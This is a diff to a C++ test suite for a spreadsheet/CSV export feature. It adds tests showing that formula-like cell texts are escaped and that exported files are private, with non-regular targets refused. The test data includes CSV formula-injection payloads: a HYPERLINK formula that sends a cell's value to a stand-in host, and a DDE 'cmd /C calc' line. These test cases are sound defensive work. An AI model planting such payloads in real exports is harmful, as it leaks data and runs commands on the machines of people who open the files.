@@ -3,7 +3,11 @@
 #include "support/spreadsheets.h"
 
 #include <QFile>
+#include <QFileInfo>
 #include <QTemporaryDir>
+#include <sys/stat.h>
+#include <sys/sysmacros.h>
+#include <unistd.h>
 
 namespace {
 
@@ -110,6 +114,86 @@ TEST_F(TableExport, FailuresNameTheFileAndLeaveWhatWasThere) {
     }
     EXPECT_THROW(TableWriter::open(path("t.csv"), {"One"}, {Kind::Text, Kind::Date}),
                  std::invalid_argument);
+}
+
+} // namespace
+
+namespace {
+
+// The permission bits of a file, as ls shows them in octal.
+int modeOf(const QString& file) {
+    struct stat info {};
+    return ::stat(QFile::encodeName(file).constData(), &info) == 0 ? int(info.st_mode & 07777) : -1;
+}
+
+TEST_F(TableExport, CsvTextsASpreadsheetWouldRunAreWrittenAsTextAndNumbersStayNumbers) {
+    const std::pair<QString, QString> texts[] = {
+        {R"(=HYPERLINK("http://x.example/?"&A1,"Click"))",
+         R"('=HYPERLINK("http://x.example/?"&A1,"Click"))"},
+        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+        {"-2+3", "'-2+3"},
+        {"@SUM(1+1)", "'@SUM(1+1)"},
+        {"\tTab", "'\tTab"},
+        {"\rReturn", "'\rReturn"},
+        {"Ann = Lee - 2", "Ann = Lee - 2"},
+        {"'quoted", "'quoted"},
+    };
+    ExportTable table;
+    table.titles = {"=Title", "Amount", "Count"};
+    table.kinds = {Kind::Text, Kind::Amount, Kind::WholeNumber};
+    for (const auto& [text, written] : texts)
+        table.rows.push_back({text, Cents{-5}, qint64(-42)});
+    writeTable(table, path("t.csv"));
+    const std::vector<QStringList> records = parseCsv(contents("t.csv"));
+    ASSERT_EQ(records.size(), std::size(texts) + 1);
+    EXPECT_EQ(records[0], QStringList({"'=Title", "Amount", "Count"}));
+    for (size_t i = 0; i < std::size(texts); ++i)
+        EXPECT_EQ(records[i + 1], QStringList({texts[i].second, "-0.05", "-42"})) << texts[i].first;
+}
+
+// Pay and names are their owner's alone whatever the umask and whatever mode the file had; a
+// target that is not a regular file is refused, named, and left as it was.
+TEST_F(TableExport, FilesAreTheOwnersAloneAndOnlyARegularFileIsReplaced) {
+    struct NoUmask {
+        mode_t before = ::umask(0);
+        ~NoUmask() { ::umask(before); }
+    } noUmask;
+    ASSERT_TRUE(writeFile(path("old.csv"), "old"));
+    ASSERT_EQ(::chmod(QFile::encodeName(path("old.csv")).constData(), 0644), 0);
+    for (const char* name : {"new.xlsx", "new.csv", "old.csv"}) {
+        writeTable(sampleTable(), path(name));
+        EXPECT_EQ(modeOf(path(name)), 0600) << name;
+    }
+    // Through a link, the file it names is replaced and the link stays.
+    ASSERT_TRUE(QFile::link(path("new.csv"), path("link.csv")));
+    ASSERT_TRUE(writeFile(path("new.csv"), "before"));
+    writeTable(sampleTable(), path("link.csv"));
+    EXPECT_TRUE(QFileInfo(path("link.csv")).isSymLink());
+    EXPECT_TRUE(contents("new.csv").startsWith("Name,Count,"));
+
+    ASSERT_TRUE(QDir(dir.path()).mkdir("folder.xlsx"));
+    ASSERT_EQ(::mkfifo(QFile::encodeName(path("pipe.csv")).constData(), 0600), 0);
+    QStringList refused = {path("folder.xlsx"), path("pipe.csv")};
+    // A device cannot be made without root; as root, the export must not replace it.
+    if (::geteuid() == 0 && ::mknod(QFile::encodeName(path("full.xlsx")).constData(),
+                                    S_IFCHR | 0600, makedev(1, 7)) == 0)
+        refused << path("full.xlsx");
+    const QStringList files = QDir(dir.path()).entryList(QDir::AllEntries | QDir::Hidden);
+    for (const QString& target : refused) {
+        const QString message =
+            thrown<ExportError>([&] { writeTable(sampleTable(), target); }).message();
+        EXPECT_TRUE(message.startsWith("Cannot write " + target + ": it is a ")) << message;
+        EXPECT_TRUE(message.contains("not a regular file")) << message;
+    }
+    EXPECT_EQ(QDir(dir.path()).entryList(QDir::AllEntries | QDir::Hidden), files);
+    EXPECT_TRUE(QFileInfo(path("folder.xlsx")).isDir());
+    struct stat info {};
+    ASSERT_EQ(::stat(QFile::encodeName(path("pipe.csv")).constData(), &info), 0);
+    EXPECT_TRUE(S_ISFIFO(info.st_mode));
+    if (refused.size() == 3) {
+        ASSERT_EQ(::stat(QFile::encodeName(path("full.xlsx")).constData(), &info), 0);
+        EXPECT_TRUE(S_ISCHR(info.st_mode));
+    }
 }
 
 } // namespace
